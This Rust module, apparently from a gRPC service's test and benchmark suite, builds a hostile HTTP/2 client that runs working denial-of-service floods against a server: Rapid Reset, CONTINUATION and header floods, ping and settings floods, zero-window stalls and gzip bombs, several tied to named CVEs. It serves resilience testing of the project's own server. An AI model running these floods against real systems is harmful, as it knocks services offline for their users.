//! A client that means harm: HTTP/2 frames written by hand over TCP, in orders and amounts that no library would send.
//!
//! Tests look at what becomes of one such connection; `./scripts/bench abuse` lets many of them go on beside an honest
//! caller.

mod bomb;
mod frames;
mod peer;

pub use bomb::bomb;
pub use frames::{Settings, call, continuation, data, field, frame, head_of, header, ping, reset, settings};
pub use peer::{End, Peer};

use std::io;
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// Lets this process have as many connections as it is allowed to: thousands are an attack of their own. Returns how many.
pub fn take_all_descriptors() -> io::Result<u64> {
    let maximum = getrlimit(Resource::Nofile).maximum;
    setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum })?;
    Ok(maximum.unwrap_or(u64::MAX))
}

/// What harm is meant.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Calls that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316 and its relatives).
    Continuation,
    /// Pings without an end (CVE-2019-9512).
    Pings,
    /// Settings without an end (CVE-2019-9515).
    Settings,
    /// Connections that begin to speak and do not go on.
    SlowHandshakes,
    /// Calls whose answers are never read (CVE-2019-9517).
    ZeroWindows,
    /// Heads of a size that nobody needs.
    HugeHeaders,
    /// Messages that are large once they are unpacked.
    CompressionBombs,
    /// Connections that do nothing.
    Idle,
}

impl Attack {
    pub const ALL: [(&'static str, Self); 9] = [
        ("rapid-reset", Self::RapidReset),
        ("continuation", Self::Continuation),
        ("pings", Self::Pings),
        ("settings", Self::Settings),
        ("slow-handshakes", Self::SlowHandshakes),
        ("zero-windows", Self::ZeroWindows),
        ("huge-headers", Self::HugeHeaders),
        ("compression-bombs", Self::CompressionBombs),
        ("idle", Self::Idle),
    ];

    /// The method that is called, `bearer` being a token that it takes.
    pub const METHOD: &'static str = "/cqm.customers.v1.CustomerService/GetCustomer";

    /// Goes on until it is dropped: with one connection, and with another one when that is taken away. `pause` lies
    /// between two of them, so that the attacker does not spend the machine's time on connecting alone.
    pub async fn go_on(self, address: &str, bearer: &str, pause: Duration) -> io::Result<()> {
        loop {
            // Whatever ends it, the next one follows: a server that hangs up is what it wants to wear out.
            let _ = self.once(address, bearer).await;
            tokio::time::sleep(pause).await;
        }
    }

    /// One connection, until the server ends it.
    pub async fn once(self, address: &str, bearer: &str) -> io::Result<End> {
        const FOREVER: usize = usize::MAX;
        let mut numbers = (1..).step_by(2);
        let mut next = move || numbers.next().expect("more streams than a connection has");
        match self {
            Self::RapidReset => {
                let peer = Peer::connect(address, Settings::default()).await?;
                let head = Head::new(Attack::METHOD, bearer, None);
                peer.flood(FOREVER, move || {
                    (0..100)
                        .flat_map(|_| {
                            let id = next();
                            [head.call(id, false), reset(id)].concat()
                        })
                        .collect()
                })
                .await
            }
            Self::Continuation => {
                let mut peer = Peer::connect(address, Settings::default()).await?;
                peer.send(&call(1, &header("x-a", "b"), false, false)).await?;
                let more = header("x-filler", &"f".repeat(1000));
                peer.flood(FOREVER, move || continuation(1, &more, false)).await
            }
            Self::Pings => {
                let peer = Peer::connect(address, Settings::default()).await?;
                peer.flood(FOREVER, || ping().repeat(500)).await
            }
            Self::Settings => {
                let peer = Peer::connect(address, Settings::default()).await?;
                peer.flood(FOREVER, || settings(Settings::default()).repeat(500)).await
            }
            Self::SlowHandshakes => {
                let mut stream = TcpStream::connect(address).await?;
                stream.write_all(b"PRI * HTTP").await?;
                Peer::of(stream).end().await
            }
            Self::ZeroWindows => {
                let mut peer = Peer::connect(address, Settings { window: Some(0) }).await?;
                let head = Head::new(LIST, bearer, Some(("grpc-timeout", "1S")));
                for _ in 0..100 {
                    let id = next();
                    peer.send(&[head.call(id, false), data(id, &message(b""), true)].concat()).await?;
                }
                peer.end().await
            }
            Self::HugeHeaders => {
                let peer = Peer::connect(address, Settings::default()).await?;
                let filler = header("x-filler", &"f".repeat(9000));
                peer.flood(FOREVER, move || {
                    let id = next();
                    let parts = (0..3).map(|part| continuation(id, &filler, part == 2));
                    [call(id, &filler, false, false), parts.collect::<Vec<_>>().concat()].concat()
                })
                .await
            }
            Self::CompressionBombs => {
                let peer = Peer::connect(address, Settings::default()).await?;
                let head = Head::new(Attack::METHOD, bearer, Some(("grpc-encoding", "gzip")));
                let mut bomb = message(&bomb(60 * 1024));
                bomb[0] = 1;
                let parts: Vec<Vec<u8>> = bomb.chunks(16 * 1024).map(<[u8]>::to_vec).collect();
                peer.flood(FOREVER, move || {
                    let id = next();
                    let last = parts.len() - 1;
                    let body = parts.iter().enumerate().flat_map(|(at, part)| data(id, part, at == last));
                    head.call(id, false).into_iter().chain(body).collect()
                })
                .await
            }
            Self::Idle => Peer::connect(address, Settings::default()).await?.end().await,
        }
    }
}

/// A method whose answer has a body, even when there is nothing to answer: a status alone needs no window.
const LIST: &str = "/cqm.customers.v1.CustomerService/ListCustomers";

/// The head of a good call, whose bytes are made once.
struct Head(Vec<u8>);

impl Head {
    fn new(path: &str, bearer: &str, more: Option<(&str, &str)>) -> Self {
        let mut block = head_of(path);
        block.extend(header("authorization", &format!("Bearer {bearer}")));
        if let Some((name, value)) = more {
            block.extend(header(name, value));
        }
        Self(block)
    }

    fn call(&self, id: u32, ended: bool) -> Vec<u8> {
        call(id, &self.0, true, ended)
    }
}

/// A message as gRPC puts it into a body.
pub fn message(bytes: &[u8]) -> Vec<u8> {
    let length = u32::try_from(bytes.len()).expect("a message below 4 GiB");
    [&[0][..], &length.to_be_bytes(), bytes].concat()
}
